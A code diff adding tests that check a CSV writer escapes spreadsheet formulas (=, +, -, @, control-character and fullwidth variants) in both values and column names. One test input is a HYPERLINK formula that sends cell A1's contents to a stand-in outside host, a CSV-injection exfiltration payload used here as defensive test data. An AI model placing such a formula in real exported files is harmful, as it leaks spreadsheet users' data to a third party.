@@ -126,6 +126,32 @@ describe('CSV', () => {
 		const escaped = await write([page], { escapeFormulas: true });
 		expect(escaped).toBe('phone,sum,plain,other\r\n"\'+39 02","\'=1+1",a-b,\r\n');
 	});
+
+	it.each([
+		'=1+1',
+		'+1',
+		'-1',
+		'@SUM(A1)',
+		'\t=1+1',
+		'\r=1+1',
+		'\n=1+1',
+		'=1+1\nin two lines',
+		' =1+1',
+		'\u00a0@A1',
+		'＝1+1',
+		'＋1',
+		'－1',
+		'＠A1',
+		'=HYPERLINK("http://elsewhere.example?a="&A1,"a")',
+	])('quotes the formula %j, in a value and in a name', async (formula) => {
+		const [row] = read(await write([[{ [formula]: formula }]], { escapeFormulas: true }));
+		expect(row).toEqual({ [`'${formula}`]: `'${formula}`, other: '' });
+	});
+
+	it.each(['a=1', '', '1+1', 'ann@example.com', "'=1", ' a'])('leaves %j alone', async (value) => {
+		const [row] = read(await write([[{ id: '1', value }]], { escapeFormulas: true }));
+		expect(row).toEqual({ id: '1', value, other: '' });
+	});
 });
 
 describe('JSON Lines', () => {
